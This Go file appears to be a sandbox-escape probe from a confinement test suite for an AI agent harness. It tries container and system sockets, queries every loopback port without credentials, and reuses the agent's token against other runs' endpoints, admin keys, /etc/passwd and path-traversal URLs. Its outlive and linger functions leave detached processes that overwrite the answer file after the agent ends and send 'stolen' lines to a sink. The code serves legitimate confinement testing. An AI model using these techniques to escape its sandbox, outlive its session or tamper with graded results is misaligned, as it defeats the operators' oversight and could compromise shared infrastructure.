//go:build linux

package main

import (
	"bufio"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
)

func reachDocker() (bool, string) {
	paths := []string{"/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock", "/run/user/0/docker.sock", "/var/run/crio/crio.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"}
	if reached, what := ways("unix", paths...); reached {
		return true, what
	}
	return ways("tcp", "127.0.0.1:2375", "127.0.0.1:2376", "172.17.0.1:2375")
}

// reachSockets tries the sockets that it was told of, and all that it finds.
func reachSockets() (bool, string) {
	paths := []string{to.Socket, "@" + to.Abstract}
	if f, err := os.Open("/proc/net/unix"); err == nil {
		lines := bufio.NewScanner(f)
		for lines.Scan() {
			if fields := strings.Fields(lines.Text()); len(fields) == 8 && strings.HasPrefix(fields[7], "@") {
				paths = append(paths, fields[7])
			}
		}
		f.Close()
	}
	began := time.Now()
	own := 0
	_ = filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		if err != nil || time.Since(began) > 8*time.Second {
			return nil
		}
		switch {
		case d.IsDir() && (path == "/proc" || path == "/sys" || path == "/usr" || strings.HasSuffix(path, "/go/pkg")):
			return fs.SkipDir
		case d.Type()&fs.ModeSocket != 0 && strings.HasPrefix(path, "/anvil/sockets/"):
			own++ // the way out and the local endpoint, which it may use
		case d.Type()&fs.ModeSocket != 0:
			paths = append(paths, path)
		}
		return nil
	})
	reached, what := ways("unix", paths...)
	return reached, fmt.Sprintf("%s; %d sockets of its own confinement", what, own)
}

// useLocalPorts asks everything that listens on its loopback, without a token.
func useLocalPorts() (bool, string) {
	f, err := os.Open("/proc/net/tcp")
	if err != nil {
		return false, err.Error()
	}
	defer f.Close()
	client := &http.Client{Timeout: 3 * time.Second, Transport: &http.Transport{Proxy: nil}}
	ports, answers := 0, map[string]int{}
	lines := bufio.NewScanner(f)
	for lines.Scan() {
		fields := strings.Fields(lines.Text())
		if len(fields) < 4 || fields[3] != "0A" {
			continue
		}
		_, hexPort, _ := strings.Cut(fields[1], ":")
		port, err := hex.DecodeString(hexPort)
		if err != nil || len(port) != 2 {
			continue
		}
		ports++
		base := fmt.Sprintf("http://127.0.0.1:%d", int(port[0])<<8|int(port[1]))
		for _, path := range []string{"/", "/v1/models", "/v1/responses", "/v1/messages", "/mcp", "/api/v1/runs/other.1/renew", "/api/v1/runs/other.1/model/v1/responses", "/api/v1/runs/other.1/restore/conversation", "/api/v1/claim", "//v1/../api/v1/claim"} {
			for _, token := range []string{"", "Bearer guess", "Bearer anvil_lease_GUESS"} {
				request, _ := http.NewRequest(http.MethodPost, base+path, strings.NewReader("{}"))
				if token != "" {
					request.Header.Set("Authorization", token)
				}
				answer, err := client.Do(request)
				if err != nil {
					continue
				}
				_, _ = io.Copy(io.Discard, answer.Body)
				answer.Body.Close()
				if answer.StatusCode < 300 {
					return true, fmt.Sprintf("%s%s answered %s", base, path, answer.Status)
				}
				answers[answer.Status]++
			}
		}
	}
	return false, fmt.Sprintf("%d ports, answers %v", ports, answers)
}

// useOwnToken asks with the token that it was given for what that token is not for:
// models that nobody listed, other runs, the server's own paths, files of the runner.
func useOwnToken() (bool, string) {
	address, token := os.Getenv("ANVIL_TOOLS_URL"), os.Getenv("ANVIL_TOOLS_TOKEN")
	base, err := url.Parse(address)
	if address == "" || token == "" || err != nil {
		return false, "it was given none"
	}
	client := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{Proxy: nil}}
	answers := map[string]int{}
	for _, a := range [][3]string{
		{"POST", "/v1/responses", `{"model":"unlisted","input":"x"}`}, {"POST", "/v1/chat/completions", `{"model":"unlisted","messages":[]}`}, {"POST", "/v1/messages", `{"model":"unlisted","max_tokens":1,"messages":[]}`},
		{"GET", "/v1/files", ""}, {"POST", "/v1/fine_tuning/jobs", "{}"}, {"GET", "/v1/organization/admin_api_keys", ""}, {"POST", "//v1/responses", "{}"}, {"POST", "/v1/../v1/files", "{}"}, {"POST", "/v1/%2e%2e/api/v1/claim", "{}"},
		{"POST", "/api/v1/claim", "{}"}, {"POST", "/api/v1/runs/other.1/renew", "{}"}, {"POST", "/api/v1/runs/other.1/tools", "{}"}, {"GET", "/api/v1/runs/other.1/restore/conversation", ""}, {"POST", "/api/v1/runs/other.1/finish", "{}"},
		{"POST", "/api/github/hook", "{}"}, {"GET", "/healthz", ""}, {"GET", "/etc/passwd", ""}, {"CONNECT", "/", ""},
	} {
		request := &http.Request{Method: a[0], URL: &url.URL{Scheme: "http", Host: base.Host, Opaque: "//" + base.Host + a[1]}, Header: http.Header{}, Body: io.NopCloser(strings.NewReader(a[2]))}
		request.Header.Set("Authorization", "Bearer "+token)
		request.Header.Set("X-Api-Key", token)
		request.Header.Set("Content-Type", "application/json")
		answer, err := client.Do(request)
		if err != nil {
			answers["no answer"]++
			continue
		}
		_, _ = io.Copy(io.Discard, answer.Body)
		answer.Body.Close()
		if answer.StatusCode < 300 {
			return true, fmt.Sprintf("%s %s answered %s", a[0], a[1], answer.Status)
		}
		answers[answer.Status]++
	}
	return false, fmt.Sprintf("%d requests, answers %v", 18, answers)
}

// outlive leaves a process behind that goes on trying to reach the sink, and to
// write to the tree.
func outlive() (bool, string) {
	self, err := os.Executable()
	if err != nil {
		return false, err.Error()
	}
	tree, _ := os.Getwd()
	for range 3 {
		if err := detach(self, "linger", fmt.Sprintf("%s,%d,%s", tree, os.Getpid(), to.TCP)); err != nil {
			return false, err.Error()
		}
	}
	return false, "three processes detached; judged from outside"
}

// linger tries for as long as it lives. The tree it changes once the agent has
// ended, and not at once: until its container is gone, which takes a moment, what it
// writes is the agent's own answer, and the checks may well pass on it. Later it is
// nobody's.
func linger(arg string) {
	parts := strings.SplitN(arg, ",", 3)
	tree, sinks := parts[0], parts[2]
	agent, _ := strconv.Atoi(parts[1])
	alone := 0 // rounds since the agent ended
	for {
		if syscall.Kill(agent, 0) != nil {
			alone++
		}
		if alone > 10 {
			_ = os.WriteFile(filepath.Join(tree, "answer.txt"), []byte("right, says a process that should be gone\n"), 0o644)
		}
		for _, sink := range each(sinks) {
			if c, err := net.DialTimeout("tcp", sink, patience); err == nil {
				fmt.Fprintln(c, "stolen by a process that should be gone")
				c.Close()
			}
		}
		time.Sleep(20 * time.Millisecond)
	}
}
